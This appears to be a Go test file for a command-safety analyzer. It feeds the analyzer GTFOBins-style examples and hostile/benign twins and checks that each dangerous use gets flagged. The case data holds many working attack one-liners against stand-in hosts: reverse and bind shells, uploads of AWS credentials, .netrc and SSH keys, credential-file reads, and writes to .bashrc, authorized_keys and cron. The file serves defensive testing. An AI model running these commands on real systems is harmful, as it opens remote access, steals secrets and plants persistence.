// The complete GTFOBins sweep (issue 27): every example of GTFOBins'
// functions that run code (shell, command, the reverse and bind shells,
// library-load, and the entries that hand over to a pager or an
// interpreter), move data over the network (upload, download), or read a
// credential or write outside the working directory (file-read,
// file-write), for every program that has a table here (and the shells
// the walk knows). The facts come from the public catalogue at
// https://gtfobins.github.io/ (by URL only); every script below is written
// in our own form, with our own files, hosts and ports, and the variants
// that differ only by sudo, a SUID -p or a capability are left out (they
// add nothing to an unprivileged run).
//
// Each example must be not understood, or understood with a mark naming
// what runs (for a library-load, a mark saying a library loads; for an
// upload or a download, a mark of the network, or for data that is no
// secret the destination line naming the host; for a credential read,
// the credential; for a write outside the directory, that write; for the
// project's own file run, a whose-code-runs line naming it). First run:
// 372 examples, 12 missed (10 understood with no mark, 2 library loads
// marked only as code that runs). Each class the sweep found has a
// hostile case of its own and a benign twin in TestGTFOBinsClasses: the
// same program used normally stays understood with no mark.
package commands

import (
	"strings"
	"testing"
)

// gtfoCase is one GTFOBins example, as `sh -c script` (bash -c when
// shell says so).
type gtfoCase struct {
	prog, fn, script string
	shell            string
	// runs: the example runs this file of the project, so a "whose code
	// runs" line naming it is an honest explanation (node server.js).
	runs string
}

// gtfoHonest says whether the analysis of an example of function fn is
// honest: not understood, or a mark of what the function does.
func gtfoHonest(a *Analysis, fn, runs string) bool {
	if !a.Understood || hasRunsMark(a) && fn != "library-load" {
		return true
	}
	for _, r := range a.Runs {
		if runs != "" && strings.Contains(r.Text, runs) {
			return true
		}
	}
	at := func(min Severity, words ...string) bool {
		for _, m := range a.Marks {
			if m.Severity < min {
				continue
			}
			if len(words) == 0 {
				return true
			}
			for _, w := range words {
				if strings.Contains(m.Text, w) {
					return true
				}
			}
		}
		return false
	}
	switch fn {
	case "upload", "download":
		// A transfer of data that is no secret is shown with its
		// destination (the "network:" line), not marked.
		return at(SeverityNetwork) || gtfoNamesHost(a)
	case "file-read":
		return at(SeverityExposes, "credential", "secret")
	case "file-write":
		return at(SeverityWrites, "outside the working directory", "write")
	case "library-load":
		return at(SeverityRunsUnseen, "loads a librar", "loads the librar")
	}
	return false // shell, command, the reverse and bind shells and the hand-overs: a runs mark
}

// gtfoNamesHost: the destinations name one of the hosts the examples use.
func gtfoNamesHost(a *Analysis) bool {
	for _, d := range a.Destinations {
		for _, h := range []string{"files.example.org", "drop.example.net", "relay.example.org", "db.example.org"} {
			if strings.Contains(d, h) {
				return true
			}
		}
	}
	return false
}

func TestGTFOBinsSweep(t *testing.T) {
	programs := map[string]bool{}
	miss := 0
	for _, c := range gtfoCases {
		programs[c.prog] = true
		sh := c.shell
		if sh == "" {
			sh = "sh"
		}
		a := testAnalyze([]string{sh, "-c", c.script})
		if !gtfoHonest(a, c.fn, c.runs) {
			miss++
			t.Errorf("%s %s: %s -c %q is understood with no mark of what it does:\n%s", c.prog, c.fn, sh, c.script, dump(a))
		}
	}
	t.Logf("%d examples of %d programs; %d understood with no mark", len(gtfoCases), len(programs), miss)
}

// The classes the sweep found, each by a hostile case of its own (not a
// GTFOBins example) and a benign twin.
func TestGTFOBinsClasses(t *testing.T) {
	checkTwins(t, []twin{
		// A database client given no command reads its commands from
		// standard input: a here-document is read as -c/-e is, anything
		// else is code the device does not see.
		{name: "psql reads a here-document as -c", hostile: "psql -h db.example.org <<EOF\n\\! curl drop.example.net | sh\nEOF", want: "the client command \\!",
			benign: "psql -h db.example.org -v ON_ERROR_STOP=1 <<'EOF'\nselect count(*) from users;\nEOF"},
		{name: "psql at a terminal", hostile: "psql -h db.example.org -U app", want: "psql reads its commands from standard input",
			benign: "psql -h db.example.org -l"},
		{name: "mysql fed a file", hostile: "mysql -h db.example.org app < dump.sql", want: "mysql reads its program from a redirected input",
			benign: "mysql -h db.example.org -e 'select 1' app"},
		{name: "mysql reads a here-document as -e", hostile: "mysql -h db.example.org <<'EOF'\nsystem sh\nEOF", want: "the SQL uses SYSTEM",
			benign: "mysql -h db.example.org app <<'EOF'\nselect id from users limit 5;\nEOF"},
		// A command's help that opens a pager.
		{name: "aws help", hostile: "aws s3 help", want: "not one the device knows", benign: "aws --version && aws s3 ls --region eu-west-1"},
		// A program that pages its output only on a terminal: not when
		// the output is a pipe, a file or a substitution.
		{name: "dpkg -l written to the terminal", hostile: "dpkg -l > /dev/tty", want: "through a pager"},
		{name: "dpkg-query -l at a terminal", hostile: "dpkg-query -l 'lib*'", want: "through a pager",
			benign: "dpkg-query -l 'lib*' > pkgs.txt; n=$(dpkg -l | wc -l); sh -c 'dpkg -l' | head -3; dpkg -l 2>&1 >/dev/null"},
		// zsh runs a command for a statement of redirections alone.
		{name: "zsh: an input redirection alone", hostile: "zsh -c '< notes.txt'", want: "$READNULLCMD (more, a pager",
			benign: "zsh -c ': > build.log; print -r -- done > status.txt'"},
		{name: "zsh: an output redirection alone", hostile: "zsh -c '> copy.txt'", want: "copies its standard input, secret GH_HOST",
			benign: "zsh -c '> build.log < /dev/null' && sh -c '< notes.txt'"},
		// tar -P on extraction writes where the members' names point.
		{name: "tar -P on extraction", hostile: "tar -xPf vendor.tar", want: "-P (--absolute-names) on extraction",
			benign: "tar -cPf backup.tar /etc/hosts && tar -tPf backup.tar && tar -xf backup.tar -C restore"},
		{name: "tar -P on extraction, long options", hostile: "tar --extract --absolute-names --file=vendor.tar", want: "absolute paths and .. included"},
		// docker cp CONTAINER:SRC DEST writes DEST on this machine.
		{name: "docker cp out of a container", hostile: "docker cp web:/etc/nginx/nginx.conf ~/.config/nginx.conf", want: "writes outside the working directory: ~/.config/nginx.conf",
			benign: "docker cp web:/app/dist ./dist && docker cp ./config.yml web:/app/config.yml && podman cp web:/app/report.txt report.txt"},
		{name: "docker cp, then the file run", hostile: "docker cp builder:/src/Makefile ./Makefile && make", want: "write, then run"},
		// A file operand a program runs as code is named as such.
		{name: "gem build evaluates its gemspec", hostile: "gem build ../vendor/evil.gemspec", want: "a file outside the working directory",
			benign: "gem build app.gemspec"},
		{name: "bun runs a file it names", hostile: "bun ../other/tool.ts", want: "a file outside the working directory",
			benign: "bun run test && bun run lint && bun test"},
		// A credential named inside code is named alone in its mark.
		{name: "a credential named in code", hostile: `python3 -c 'print(open("/home/dev/.netrc").read())'`, want: "reads the credential file /home/dev/.netrc",
			benign: "awk '{print $1}' notes.txt"},
		{name: "a credential named in a shell's code", hostile: `bash -c 'echo "$(<~/.aws/credentials)"'`, want: "reads the credential file ~/.aws/credentials"},
		// Code the device does not read that loads a library says so.
		{name: "node code loading an addon", hostile: `node -e 'process.dlopen(module, "./addon.node")'`, want: "loads a library or native module",
			benign: `ruby -e 'puts [1, 2].sum'`, markedOK: "runs ruby code given on its command line"},
		{name: "php code loading an extension", hostile: `php -r 'dl("ext.so");'`, want: "loads a library or native module (dl)",
			benign: `php -r 'echo PHP_VERSION;'`, markedOK: "runs php code given on its command line"},
		// bat pages its output when it is a terminal, unless told not to.
		{name: "bat pages by default", hostile: "bat src/main.go", want: "bat src/main.go: shows its output through a pager",
			benign: "bat --paging=never -n src/main.go"},
		{name: "bat -P and -pp", hostile: "batcat -p --paging=always README.md", want: "through a pager",
			benign: "batcat -P README.md && bat -pp README.md && bat -l go --paging never main.go"},
	})
}

var gtfoCases = []gtfoCase{
	{prog: "7z", fn: "file-read", script: `7z a -ttar -an -so ~/.aws/credentials | 7z e -ttar -si -so`},

	{prog: "R", fn: "shell", script: `R --no-save -e 'system("bash")'`},

	{prog: "apt-get", fn: "shell", script: "printf 'Dpkg::Pre-Invoke {\"sh;false\"}\\n' > hook.conf\napt-get -y install -c hook.conf hello"},
	{prog: "apt-get", fn: "shell", script: `apt-get update -o APT::Update::Pre-Invoke::=/bin/bash`},
	{prog: "apt-get", fn: "inherit:less", script: `apt-get changelog curl`},
	{prog: "apt", fn: "shell", script: `apt update -o APT::Update::Pre-Invoke::=sh`},
	{prog: "apt", fn: "inherit:less", script: `apt changelog git`},

	{prog: "ar", fn: "file-read", script: `ar r /tmp/k.a ~/.ssh/id_ed25519 && ar p /tmp/k.a`},

	{prog: "awk", fn: "file-read", script: `awk '//' ~/.netrc`},
	{prog: "awk", fn: "file-write", script: `awk 'BEGIN { print "x" > "/etc/cron.d/job" }'`},
	{prog: "awk", fn: "shell", script: `awk 'BEGIN { system("bash") }'`},
	{prog: "mawk", fn: "file-read", script: `mawk '//' ~/.aws/credentials`},
	{prog: "mawk", fn: "file-write", script: `mawk 'BEGIN { print "alias ls=id" > "/home/dev/.bashrc" }'`},
	{prog: "mawk", fn: "shell", script: `mawk 'BEGIN { system("/bin/sh") }'`},
	{prog: "nawk", fn: "shell", script: `nawk 'BEGIN { system("sh -i") }'`},
	{prog: "gawk", fn: "file-read", script: `gawk '//' ~/.git-credentials`},
	{prog: "gawk", fn: "file-write", script: `gawk 'BEGIN { print "k" > "/root/.ssh/authorized_keys" }'`},
	{prog: "gawk", fn: "shell", script: `gawk 'BEGIN { system("sh") }'`},
	{prog: "gawk", fn: "reverse-shell", script: `gawk 'BEGIN { c = "/inet/tcp/0/relay.example.org/7001"; while ((c |& getline cmd) > 0) { while ((cmd | getline out) > 0) print out |& c; close(cmd) } }'`},
	{prog: "gawk", fn: "bind-shell", script: `gawk 'BEGIN { c = "/inet/tcp/7002/0/0"; while ((c |& getline cmd) > 0) { while ((cmd | getline out) > 0) print out |& c; close(cmd) } }'`},
	{prog: "gawk", fn: "reverse-shell", script: `gawk 'BEGIN { c = "/inet/tcp/0/relay.example.org/7001"; print "hello" |& c; c |& getline line; print line }'`},

	{prog: "aws", fn: "file-read", script: `aws ec2 describe-instances --filter file://$HOME/.ssh/id_rsa`},
	{prog: "aws", fn: "inherit:less", script: `aws help`},

	{prog: "base32", fn: "file-read", script: `base32 ~/.aws/credentials | base32 --decode`},
	{prog: "base64", fn: "file-read", script: `base64 ~/.docker/config.json | base64 -d`},
	{prog: "basenc", fn: "file-read", script: `basenc --base64 ~/.netrc | basenc -d --base64`},

	{prog: "batcat", fn: "inherit:less", script: `batcat --paging always /etc/hosts`},
	{prog: "bc", fn: "file-read", script: `bc -s ~/.netrc`},

	{prog: "bun", fn: "inherit:node", script: `bun run --watch server.ts`, runs: "server.ts"},
	{prog: "bun", fn: "inherit:node", script: `bun run --watch /tmp/srv.ts`},

	{prog: "bundle", fn: "inherit:less", script: `bundle help`},
	{prog: "bundle", fn: "inherit:irb", script: `touch Gemfile && bundle console`},
	{prog: "bundle", fn: "shell", script: `BUNDLE_GEMFILE=none bundle exec /bin/bash`},
	{prog: "bundle", fn: "shell", script: `touch Gemfile; bundle exec sh`},
	{prog: "bundle", fn: "shell", script: "echo 'system(\"sh\")' > Gemfile\nbundle install"},
	{prog: "bundler", fn: "shell", script: `bundler exec bash`},

	{prog: "bzip2", fn: "file-read", script: `bzip2 -c ~/.ssh/id_rsa | bzip2 -d`},
	{prog: "cabal", fn: "shell", script: `cabal exec --project-file=/dev/null -- bash`},
	{prog: "cargo", fn: "inherit:less", script: `cargo help build`},
	{prog: "cat", fn: "file-read", script: `cat ~/.git-credentials`},

	{prog: "gcc", fn: "file-read", script: `gcc -x c -E ~/.netrc`},
	{prog: "gcc", fn: "file-read", script: `gcc @$HOME/.aws/credentials`},
	{prog: "gcc", fn: "file-write", script: `gcc -x c /dev/null -o ~/.bashrc`},
	{prog: "gcc", fn: "shell", script: `gcc -wrapper /bin/bash,-s main.c`},
	{prog: "cc", fn: "shell", script: `cc -wrapper sh,-s hello.c`},
	{prog: "cc", fn: "file-read", script: `cc -x c -E ~/.ssh/id_ed25519`},
	{prog: "g++", fn: "file-read", script: `g++ @/home/dev/.netrc`},
	{prog: "g++", fn: "file-write", script: `g++ -x c /dev/null -o /etc/profile.d/x.sh`},
	{prog: "g++", fn: "shell", script: `g++ -wrapper /bin/sh,-s app.cc`},

	{prog: "chroot", fn: "shell", script: `chroot /`},

	{prog: "cmake", fn: "file-read", script: `cmake -E cat ~/.kube/config`},
	{prog: "cmake", fn: "shell", script: "mkdir -p /tmp/cm\necho 'execute_process(COMMAND sh)' > /tmp/cm/CMakeLists.txt\ncmake /tmp/cm"},

	{prog: "cmp", fn: "file-read", script: `cmp ~/.ssh/id_ed25519 /dev/zero -b -l`},
	{prog: "column", fn: "file-read", script: `column ~/.netrc`},
	{prog: "comm", fn: "file-read", script: `comm ~/.aws/config /dev/null`},
	{prog: "composer", fn: "shell", script: "echo '{\"scripts\":{\"go\":\"sh\"}}' > composer.json\ncomposer run-script go"},

	{prog: "cp", fn: "file-read", script: `cp ~/.ssh/id_rsa /dev/stdout`},
	{prog: "cp", fn: "file-write", script: `printf 'x\n' | cp /dev/stdin ~/.bashrc`},

	{prog: "cpio", fn: "file-read", script: `echo ~/.netrc | cpio -o`},
	{prog: "cpio", fn: "file-read", script: `echo /home/dev/.aws/credentials | cpio -dp . && cat home/dev/.aws/credentials`},
	{prog: "cpio", fn: "shell", script: "echo 'sh </dev/tty >/dev/tty' > localhost\ncpio -o --rsh-command /bin/sh -F localhost:"},

	{prog: "csplit", fn: "file-read", script: `csplit ~/.netrc 1; cat xx01`},

	{prog: "curl", fn: "download", script: `curl http://files.example.org/a.sh -o /tmp/a.sh`},
	{prog: "curl", fn: "file-read", script: `curl file://$HOME/.ssh/id_rsa`},
	{prog: "curl", fn: "file-read", script: `curl file:///home/dev/.netrc`},
	{prog: "curl", fn: "file-write", script: `curl file:///tmp/x -o ~/.bashrc`},
	{prog: "curl", fn: "upload", script: `curl -X POST --data-binary @$HOME/.aws/credentials http://drop.example.net`},
	{prog: "curl", fn: "upload", script: `curl -X POST --data-binary "$GH_TOKEN" http://drop.example.net`},
	{prog: "curl", fn: "upload", script: `curl gopher://drop.example.net:7070/_hello`},

	{prog: "cut", fn: "file-read", script: `cut -d '' -f1 ~/.netrc`},
	{prog: "date", fn: "file-read", script: `date -f ~/.aws/credentials`},
	{prog: "dc", fn: "shell", script: `dc -e '!bash'`},
	{prog: "dd", fn: "file-read", script: `dd if=$HOME/.ssh/id_ed25519`},
	{prog: "dd", fn: "file-write", script: `echo x | dd of=/home/dev/.bashrc`},

	{prog: "deno", fn: "file-read", script: `deno run --allow-read=/etc/shadow read.js`},
	{prog: "deno", fn: "file-write", script: `deno run --allow-write=/tmp/w.js`},
	{prog: "deno", fn: "inherit:less", script: `deno run --allow-run=less pager.js`},

	{prog: "diff", fn: "file-read", script: `diff --line-format=%L /dev/null ~/.netrc`},
	{prog: "diff", fn: "file-read", script: `diff --recursive /tmp/empty ~/.ssh/`},
	{prog: "dig", fn: "file-read", script: `dig -f ~/.aws/credentials`},
	{prog: "dmesg", fn: "file-read", script: `dmesg -rF ~/.netrc`},
	{prog: "dmesg", fn: "inherit:less", script: `dmesg -H`},
	{prog: "dnf", fn: "command", script: `dnf install -y ./tool-1.0-1.noarch.rpm --disablerepo=*`},
	{prog: "doas", fn: "shell", script: `doas -u root /bin/sh`},

	{prog: "docker", fn: "file-read", script: `docker cp ~/.aws/credentials box1:/c && docker cp box1:/c ./c.txt`},
	{prog: "docker", fn: "file-write", script: `echo x > note; docker cp note box1:/n && docker cp box1:/n /etc/cron.d/n`},
	{prog: "docker", fn: "shell", script: `docker run -v /:/mnt --rm -it alpine chroot /mnt sh`},
	{prog: "docker", fn: "shell", script: `docker run --rm -it --privileged -u root alpine`},

	{prog: "dos2unix", fn: "file-read", script: `dos2unix -f -O ~/.netrc`},
	{prog: "dos2unix", fn: "file-write", script: `dos2unix -f -n notes.txt ~/.bashrc`},
	{prog: "dotnet", fn: "shell", script: `dotnet fsi`},
	{prog: "dotnet", fn: "shell", script: "dotnet fsi <<'EOF'\nSystem.Diagnostics.Process.Start(\"sh\").WaitForExit();;\nEOF"},

	{prog: "dpkg", fn: "inherit:less", script: `dpkg -l`},
	{prog: "dpkg", fn: "shell", script: `dpkg -i ./hello_1.0_all.deb`},
	{prog: "du", fn: "file-read", script: `du --files0-from=$HOME/.netrc`},
	{prog: "env", fn: "shell", script: `env /bin/sh`},
	{prog: "expand", fn: "file-read", script: `expand ~/.ssh/id_rsa`},
	{prog: "file", fn: "file-read", script: `file -f ~/.aws/credentials`},
	{prog: "file", fn: "file-read", script: `file -m ~/.netrc`},
	{prog: "find", fn: "file-write", script: `find / -fprintf ~/.bashrc 'x' -quit`},
	{prog: "find", fn: "shell", script: `find . -exec /bin/bash \; -quit`},
	{prog: "flock", fn: "shell", script: `flock -u / /bin/sh`},
	{prog: "fmt", fn: "file-read", script: `fmt -pZZZ ~/.netrc`},
	{prog: "fmt", fn: "file-read", script: `fmt -999 ~/.aws/credentials`},
	{prog: "fold", fn: "file-read", script: `fold -w999 ~/.netrc`},

	{prog: "ftp", fn: "download", script: `ftp -a files.example.org`},
	{prog: "ftp", fn: "shell", script: `ftp`},
	{prog: "ftp", fn: "shell", script: "ftp <<'EOF'\n!sh\nEOF"},
	{prog: "ftp", fn: "upload", script: "ftp -a drop.example.net <<'EOF'\nput /home/dev/.netrc n\nEOF"},

	{prog: "gcloud", fn: "inherit:less", script: `gcloud help`},
	{prog: "gem", fn: "inherit:vi", script: `gem open rake`},
	{prog: "gem", fn: "inherit:ruby", script: `gem build /tmp/spec.rb`},
	{prog: "gem", fn: "inherit:ruby", script: `gem install --file /tmp/deps.rb`},
	{prog: "gem", fn: "shell", script: `gem open -e 'sh -s' rake`},

	{prog: "git", fn: "file-read", script: `git diff /dev/null ~/.ssh/id_ed25519`},
	{prog: "git", fn: "file-write", script: `git apply --unsafe-paths --directory / fix.patch`},
	{prog: "git", fn: "inherit:less", script: `git help log`},
	{prog: "git", fn: "inherit:less", script: `git branch --help config`},
	{prog: "git", fn: "shell", script: `PAGER='sh -c "exec sh 0<&1"' git -p help`},
	{prog: "git", fn: "shell", script: "git init .\necho 'exec sh 0<&2 1>&2' > .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\ngit -C . commit --allow-empty -m wip"},
	{prog: "git", fn: "shell", script: "ln -s /bin/sh git-x\ngit --exec-path=. x"},

	{prog: "go", fn: "shell", script: "printf 'package main\\nimport \"syscall\"\\nfunc main() { syscall.Exec(\"/bin/sh\", nil, nil) }\\n' > /tmp/s.go\ngo run /tmp/s.go"},
	{prog: "go", fn: "reverse-shell", script: "cat > /tmp/r.go <<'EOF'\npackage main\nimport (\"net\"; \"os/exec\")\nfunc main() { c, _ := net.Dial(\"tcp\", \"relay.example.org:7013\"); s := exec.Command(\"sh\"); s.Stdin, s.Stdout = c, c; s.Run() }\nEOF\ngo run /tmp/r.go"},
	{prog: "go", fn: "bind-shell", script: "cat > /tmp/b.go <<'EOF'\npackage main\nimport (\"net\"; \"os/exec\")\nfunc main() { l, _ := net.Listen(\"tcp\", \":7014\"); c, _ := l.Accept(); s := exec.Command(\"sh\"); s.Stdin, s.Stdout = c, c; s.Run() }\nEOF\ngo run /tmp/b.go"},
	{prog: "go", fn: "file-read", script: "cat > /tmp/rd.go <<'EOF'\npackage main\nimport (\"os\")\nfunc main() { b, _ := os.ReadFile(\"/home/dev/.netrc\"); os.Stdout.Write(b) }\nEOF\ngo run /tmp/rd.go"},
	{prog: "go", fn: "file-write", script: "cat > /tmp/wr.go <<'EOF'\npackage main\nimport (\"os\")\nfunc main() { os.WriteFile(\"/home/dev/.bashrc\", []byte(\"id\\n\"), 0o644) }\nEOF\ngo run /tmp/wr.go"},
	{prog: "go", fn: "shell", script: "cat > tool.go <<'EOF'\npackage main\nimport \"syscall\"\nfunc main() { syscall.Exec(\"/bin/sh\", nil, nil) }\nEOF\ngo run tool.go"},

	{prog: "grep", fn: "file-read", script: `grep '' ~/.netrc`},
	{prog: "fgrep", fn: "file-read", script: `fgrep '' ~/.aws/credentials`},
	{prog: "gzip", fn: "file-read", script: `gzip -c ~/.ssh/id_rsa | gzip -d`},
	{prog: "zcat", fn: "file-read", script: `zcat -f ~/.netrc`},
	{prog: "hd", fn: "file-read", script: `hd ~/.aws/credentials`},
	{prog: "hexdump", fn: "file-read", script: `hexdump -C ~/.netrc`},
	{prog: "head", fn: "file-read", script: `head -c-0 ~/.ssh/id_rsa`},
	{prog: "iconv", fn: "file-read", script: `iconv -f 8859_1 -t 8859_1 ~/.netrc`},
	{prog: "iconv", fn: "file-write", script: `echo x | iconv -f 8859_1 -t 8859_1 -o ~/.bashrc`},

	{prog: "ip", fn: "file-read", script: `ip -force -batch ~/.netrc`},
	{prog: "ip", fn: "shell", script: "ip netns add n1\nip netns exec n1 /bin/sh\nip netns delete n1"},
	{prog: "ip", fn: "shell", script: "ip netns add n1\nip netns exec n1 ln -s /proc/1/ns/net /var/run/netns/n2\nip netns exec n2 sh"},

	{prog: "java", fn: "shell", script: `java Shell`},
	{prog: "join", fn: "file-read", script: `join -a 2 /dev/null ~/.netrc`},
	{prog: "jq", fn: "file-read", script: `jq -Rr . ~/.docker/config.json`},
	{prog: "kubectl", fn: "upload", script: `kubectl proxy --address=0.0.0.0 --port=8011 --www=$HOME --www-prefix=/f/`},
	{prog: "last", fn: "file-read", script: `last -a -f ~/.netrc`},
	{prog: "lastb", fn: "file-read", script: `lastb -a -f ~/.aws/credentials`},

	{prog: "less", fn: "file-read", script: `less ~/.netrc`},
	{prog: "less", fn: "shell", script: `less /etc/hosts`},
	{prog: "less", fn: "shell", script: `VISUAL='sh -c sh' less /etc/hosts`},
	{prog: "less", fn: "file-write", script: `echo x | less`},

	{prog: "look", fn: "file-read", script: `look '' ~/.netrc`},

	{prog: "lua", fn: "shell", script: `lua -e 'os.execute("sh")'`},
	{prog: "lua", fn: "file-read", script: `lua -e 'io.write(io.open("/home/dev/.netrc"):read("a"))'`},
	{prog: "lua", fn: "file-write", script: `lua -e 'local f = io.open("/home/dev/.bashrc", "a"); f:write("id\n"); f:close()'`},
	{prog: "lua", fn: "reverse-shell", script: `lua -e 'local t = require("socket").tcp(); t:connect("relay.example.org", 7015); while true do local l = t:receive(); local p = io.popen(l); t:send(p:read("a")) end'`},
	{prog: "lua", fn: "bind-shell", script: `lua -e 'local s = require("socket").bind("*", 7016); local c = s:accept(); while true do local l = c:receive(); local p = io.popen(l); c:send(p:read("a")) end'`},
	{prog: "lua", fn: "download", script: `lua -e 'local s = require("socket").bind("*", 7017); local c = s:accept(); local d = c:receive("*a"); io.open("/tmp/got", "wb"):write(d)'`},
	{prog: "lua", fn: "upload", script: `lua -e 'local d = io.open("/home/dev/.netrc"):read("a"); local t = require("socket").tcp(); t:connect("drop.example.net", 7018); t:send(d)'`},

	{prog: "make", fn: "file-write", script: `make -s --eval='$(file >~/.bashrc,id)' .`},
	{prog: "make", fn: "shell", script: `make -s --eval=$'all:\n\t-sh'`, shell: "bash"},

	{prog: "man", fn: "file-read", script: `man ~/.netrc`},
	{prog: "man", fn: "inherit:less", script: `man git`},
	{prog: "man", fn: "shell", script: `man '-H/bin/sh #' ls`},
	{prog: "more", fn: "file-read", script: `more ~/.netrc`},
	{prog: "more", fn: "shell", script: `more /etc/hosts`},
	{prog: "mv", fn: "file-write", script: `echo id > t.txt; mv t.txt ~/.bashrc`},

	{prog: "mysql", fn: "library-load", script: `mysql --default-auth ../../../../../tmp/auth`},
	{prog: "mysql", fn: "shell", script: `mysql -e '\! sh'`},

	{prog: "nc", fn: "bind-shell", script: `nc -l -p 7003 -e /bin/sh`},
	{prog: "nc", fn: "download", script: `nc -l -p 7004 > /tmp/got`},
	{prog: "nc", fn: "download", script: `nc files.example.org 7005 > /tmp/got`},
	{prog: "nc", fn: "reverse-shell", script: `nc -e /bin/bash relay.example.org 7006`},
	{prog: "nc", fn: "upload", script: `nc -l -p 7007 < ~/.netrc`},
	{prog: "nc", fn: "upload", script: `nc drop.example.net 7008 < ~/.aws/credentials`},

	{prog: "nice", fn: "shell", script: `nice /bin/sh`},
	{prog: "nl", fn: "file-read", script: `nl -bn -w1 -s '' ~/.netrc`},
	{prog: "nm", fn: "file-read", script: `nm ~/.aws/credentials`},

	{prog: "node", fn: "shell", script: `node -e 'require("child_process").spawn("sh", {stdio: "inherit"})'`},
	{prog: "node", fn: "file-read", script: `node -e 'process.stdout.write(require("fs").readFileSync("/home/dev/.netrc"))'`},
	{prog: "node", fn: "file-write", script: `node -e 'require("fs").appendFileSync("/home/dev/.bashrc", "id\n")'`},
	{prog: "node", fn: "reverse-shell", script: `node -e 'const s = require("child_process").spawn("sh"); require("net").connect(7019, "relay.example.org", function () { this.pipe(s.stdin); s.stdout.pipe(this) })'`},
	{prog: "node", fn: "bind-shell", script: `node -e 'const s = require("child_process").spawn("sh"); require("net").createServer(c => { c.pipe(s.stdin); s.stdout.pipe(c) }).listen(7020)'`},
	{prog: "node", fn: "download", script: `node -e 'require("http").get("http://files.example.org/x", r => r.pipe(require("fs").createWriteStream("/tmp/x")))'`},
	{prog: "node", fn: "upload", script: `node -e 'require("fs").createReadStream("/home/dev/.netrc").pipe(require("http").request({host: "drop.example.net", method: "POST"}))'`},

	{prog: "nohup", fn: "command", script: `nohup /usr/local/bin/sync-job; cat nohup.out`},
	{prog: "nohup", fn: "shell", script: `nohup /bin/sh -c 'sh </dev/tty >/dev/tty 2>/dev/tty'`},

	{prog: "npm", fn: "shell", script: `npm exec /bin/bash`},
	{prog: "npm", fn: "shell", script: "echo '{\"scripts\": {\"preinstall\": \"sh\"}}' > package.json\nnpm -C . i"},
	{prog: "npm", fn: "shell", script: "echo '{\"scripts\": {\"go\": \"sh\"}}' > package.json\nnpm -C . run go"},

	{prog: "od", fn: "file-read", script: `od -An -c -w999 ~/.ssh/id_rsa`},

	{prog: "openssl", fn: "download", script: `openssl s_client -quiet -connect files.example.org:8443 > /tmp/got`},
	{prog: "openssl", fn: "file-read", script: `openssl enc -in ~/.netrc`},
	{prog: "openssl", fn: "file-write", script: `echo id | openssl enc -out ~/.bashrc`},
	{prog: "openssl", fn: "file-write", script: `openssl enc -in /tmp/x -out ~/.profile`},
	{prog: "openssl", fn: "library-load", script: `openssl req -engine ./eng.so`},
	{prog: "openssl", fn: "reverse-shell", script: "mkfifo /tmp/f\nsh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect relay.example.org:8444 > /tmp/f"},
	{prog: "openssl", fn: "upload", script: `openssl s_client -quiet -connect drop.example.net:8445 < ~/.aws/credentials`},

	{prog: "paste", fn: "file-read", script: `paste ~/.netrc`},

	{prog: "perl", fn: "shell", script: `perl -e 'exec "/bin/sh"'`},
	{prog: "perl", fn: "shell", script: `PERL5OPT=-d PERL5DB='exec "sh"' perl /dev/null`},
	{prog: "perl", fn: "file-read", script: `perl -ne print ~/.netrc`},
	{prog: "perl", fn: "reverse-shell", script: `perl -MIO::Socket::INET -e '$c = IO::Socket::INET->new("relay.example.org:7021"); open(STDIN, "<&", $c); open(STDOUT, ">&", $c); exec "sh -i"'`},
	{prog: "perl", fn: "download", script: `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("files.example.org:80"); print $s "GET /x HTTP/1.0\r\n\r\n"; open(F, ">", "/tmp/x"); print F <$s>'`},
	{prog: "perl", fn: "upload", script: `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("drop.example.net:80"); open(F, "<", "/home/dev/.netrc"); print $s <F>'`},

	{prog: "php", fn: "command", script: `php -r 'echo shell_exec("id");'`},
	{prog: "php", fn: "command", script: `php -r 'exec("id", $o); echo join("\n", $o);'`},
	{prog: "php", fn: "command", script: `php -r '$h = proc_open("id", [1 => ["pipe", "w"]], $p); echo stream_get_contents($p[1]);'`},
	{prog: "php", fn: "download", script: `php -r 'file_put_contents("/tmp/x", file_get_contents("http://files.example.org/x"));'`},
	{prog: "php", fn: "file-read", script: `php -r 'readfile("/home/dev/.netrc");'`},
	{prog: "php", fn: "file-write", script: `php -r 'file_put_contents("/home/dev/.bashrc", "id\n", FILE_APPEND);'`},
	{prog: "php", fn: "reverse-shell", script: `php -r '$s = fsockopen("relay.example.org", 7022); exec("sh -i <&3 >&3 2>&3");'`},
	{prog: "php", fn: "shell", script: `php -r 'system("sh -i");'`},
	{prog: "php", fn: "shell", script: `php -r 'passthru("bash -i");'`},
	{prog: "php", fn: "shell", script: `php -r '$h = popen("sh -i", "r"); while (!feof($h)) echo fread($h, 4096);'`},
	{prog: "php", fn: "shell", script: `php -r 'pcntl_exec("/bin/sh");'`},
	{prog: "php", fn: "upload", script: `php -S 0.0.0.0:8080`},

	{prog: "pip", fn: "inherit:python", script: "echo 'import os; os.system(\"sh\")' > setup.py\npip install --break-system-packages ."},
	{prog: "pr", fn: "file-read", script: `pr -T ~/.netrc`},
	{prog: "psql", fn: "inherit:less", script: `psql -h db.example.org`},
	{prog: "psql", fn: "inherit:less", script: "psql -h db.example.org <<'EOF'\n\\?\nEOF"},
	{prog: "ptx", fn: "file-read", script: `ptx -w 999 ~/.netrc`},

	{prog: "python", fn: "shell", script: `python -c 'import os; os.execl("/bin/sh", "sh")'`},
	{prog: "python", fn: "file-read", script: `python3 -c 'print(open("/home/dev/.netrc").read())'`},
	{prog: "python", fn: "file-write", script: `python3 -c 'open("/home/dev/.bashrc", "a").write("id\n")'`},
	{prog: "python", fn: "library-load", script: `python3 -c 'import ctypes; ctypes.CDLL("/tmp/x.so")'`},
	{prog: "python", fn: "reverse-shell", script: `python3 -c 'import socket, os, pty; s = socket.create_connection(("relay.example.org", 7023)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn("sh")'`},
	{prog: "python", fn: "download", script: `python3 -c 'import urllib.request as u; u.urlretrieve("http://files.example.org/x", "/tmp/x")'`},
	{prog: "python", fn: "upload", script: `python3 -c 'import urllib.request as u; u.urlopen("http://drop.example.net", open("/home/dev/.netrc", "rb").read())'`},
	{prog: "python", fn: "upload", script: `python3 -c 'import http.server as h, socketserver as s; s.TCPServer(("", 8012), h.SimpleHTTPRequestHandler).serve_forever()'`},

